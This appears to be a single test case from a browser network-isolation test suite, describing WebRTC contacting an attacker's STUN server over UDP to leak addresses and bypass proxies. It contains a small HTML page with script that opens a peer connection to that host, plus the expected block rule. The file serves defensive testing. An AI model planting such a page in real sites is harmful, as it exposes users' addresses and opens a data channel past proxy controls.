"""A page opens a peer connection with a STUN server of the attacker.

The browser sends UDP datagrams past every proxy setting: the classic way in which a browser gives its
own addresses away, and a channel for data.

Not covered: WebRTC over TCP, which is tried with a TURN server.
"""

ATTACK = {
    "title": "WebRTC asks a STUN server over UDP",
    "group": "browser",
    "layer": "room",
    "risk": "exfiltration",
    "references": ["RFC 8489", "RFC 8828"],
    "arrives": [{"what": "udp", "port": 3478}],
    "stopped": [
        {
            "reason": ["literal-address"],
            "entry": ["udp"],
            "where": {"address": "93.184.216.66", "port": "3478"},
        }
    ],
    "page": "<h1>Call</h1><script>const peer = new RTCPeerConnection({iceServers: [{urls: "
    "'stun:93.184.216.66:3478'}]});peer.createDataChannel('x'); "
    "peer.createOffer().then(offer => peer.setLocalDescription(offer))</script>",
}
